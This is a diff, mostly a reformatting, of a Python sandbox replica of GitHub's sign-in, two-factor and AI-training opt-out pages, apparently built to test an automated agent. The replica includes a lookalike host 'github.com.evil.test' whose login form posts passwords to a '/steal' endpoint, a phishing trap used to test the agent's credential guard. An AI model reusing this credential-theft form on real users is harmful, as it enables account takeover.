@@ -12,8 +12,8 @@ from __future__ import annotations
 import html
 from urllib.parse import quote, urlsplit
 
-from optout.sandbox.replica import Request, Response, page, redirect
 from optout.sandbox.kit.onesetting import OneSettingReplica
+from optout.sandbox.replica import Request, Response, page, redirect
 
 LOOKALIKE_HOST = "github.com.evil.test"
 
@@ -34,12 +34,17 @@ class GitHub(OneSettingReplica):
     label = "Allow GitHub to use my data for AI model training"
     changed_label = "Share my Copilot interactions to improve models"
     choices = ("Disabled", "Enabled")
-    foreign = ("de", "GitHub erlauben, meine Daten für das Training von KI-Modellen zu verwenden",
-               ("Deaktiviert", "Aktiviert"))
+    foreign = (
+        "de",
+        "GitHub erlauben, meine Daten für das Training von KI-Modellen zu verwenden",
+        ("Deaktiviert", "Aktiviert"),
+    )
 
     def frame(self, section: str) -> str:
-        return ('<meta name="user-login" content="octocat-demo">'
-                f"<h1>{html.escape(self.page_heading)}</h1>{section}")
+        return (
+            '<meta name="user-login" content="octocat-demo">'
+            f"<h1>{html.escape(self.page_heading)}</h1>{section}"
+        )
 
     def absent_section(self) -> str:
         return """
@@ -59,7 +64,9 @@ class GitHub(OneSettingReplica):
                 # page's own redirect still lands here, so the credential guard is what is tested.
                 return redirect(f"https://{LOOKALIKE_HOST}/login")
             if self.user(req) is not None:
-                return redirect(self.safe_target(req.query.get("return_to") or "https://github.com/"))
+                return redirect(
+                    self.safe_target(req.query.get("return_to") or "https://github.com/")
+                )
             return self.login_page(req)
         if path == "/session" and req.method == "POST":
             return self.login_submit(req)
@@ -68,23 +75,34 @@ class GitHub(OneSettingReplica):
                 return self.verify_totp(req)
             return self.two_factor_page(req.query.get("return_to", ""), req.query.get("who", ""))
         if path == "/sessions/verified-device":
-            return page("""<h1>Device verification</h1>
+            return page(
+                """<h1>Device verification</h1>
 <p>We just sent your authentication code via email. The code will expire at 12:00 UTC.</p>
 <form method="post"><label for="otp">Device Verification Code</label>
 <input id="otp" name="otp" autocomplete="one-time-code"><button type="submit">Verify</button></form>""",
-                        title="Device verification · GitHub")
+                title="Device verification · GitHub",
+            )
         if path == "/" and req.method == "GET":
             if self.user(req) is None:
-                return page("<h1>Build and ship software on a single platform</h1><a href='/login'>Sign in</a>",
-                            title="GitHub")
-            return page('<meta name="user-login" content="octocat-demo"><h1>Dashboard</h1>', title="GitHub")
+                return page(
+                    "<h1>Build and ship software on a single platform</h1><a href='/login'>Sign in</a>",
+                    title="GitHub",
+                )
+            return page(
+                '<meta name="user-login" content="octocat-demo"><h1>Dashboard</h1>', title="GitHub"
+            )
         return None
 
     def login_page(self, req: Request, *, error: str = "", lookalike: bool = False) -> Response:
         target = html.escape(req.query.get("return_to", req.form.get("return_to", "")))
         action = f"https://{LOOKALIKE_HOST}/steal" if lookalike else "/session"
-        flash = f'<div class="flash flash-error" role="alert">{html.escape(error)}</div>' if error else ""
-        return page(f"""
+        flash = (
+            f'<div class="flash flash-error" role="alert">{html.escape(error)}</div>'
+            if error
+            else ""
+        )
+        return page(
+            f"""
 <h1>Sign in to GitHub</h1>{flash}
 <form method="post" action="{action}">
   <input type="hidden" name="return_to" value="{target}">
@@ -93,7 +111,9 @@ class GitHub(OneSettingReplica):
   <label for="password">Password</label>
   <input id="password" name="password" type="password" autocomplete="current-password">
   <input type="submit" name="commit" value="Sign in">
-</form>""", title="Sign in to GitHub · GitHub")
+</form>""",
+            title="Sign in to GitHub · GitHub",
+        )
 
     def login_submit(self, req: Request) -> Response:
         username, password = req.form.get("login", ""), req.form.get("password", "")
@@ -104,12 +124,19 @@ class GitHub(OneSettingReplica):
         if self.misbehaves("checkpoint"):
             return redirect("/sessions/verified-device")
         if self.wants_code(username):
-            return redirect(f"/sessions/two-factor/app?return_to={quote(target, safe='')}&who={quote(username)}")
+            return redirect(
+                f"/sessions/two-factor/app?return_to={quote(target, safe='')}&who={quote(username)}"
+            )
         return self.signed_in_redirect(target, username)
 
     def two_factor_page(self, target: str, username: str, error: str = "") -> Response:
-        flash = f'<div class="flash flash-error" role="alert">{html.escape(error)}</div>' if error else ""
-        return page(f"""
+        flash = (
+            f'<div class="flash flash-error" role="alert">{html.escape(error)}</div>'
+            if error
+            else ""
+        )
+        return page(
+            f"""
 <h1>Two-factor authentication</h1>{flash}
 <form method="post" action="/sessions/two-factor/app">
   <input type="hidden" name="return_to" value="{html.escape(target)}">
@@ -117,7 +144,9 @@ class GitHub(OneSettingReplica):
   <label for="app_totp">Authentication code</label>
   <input id="app_totp" name="app_otp" type="text" autocomplete="one-time-code" inputmode="numeric">
   <button type="submit">Verify</button>
-</form>""", title="Two-factor authentication · GitHub")
+</form>""",
+            title="Two-factor authentication · GitHub",
+        )
 
     def verify_totp(self, req: Request) -> Response:
         username = req.form.get("who", "")
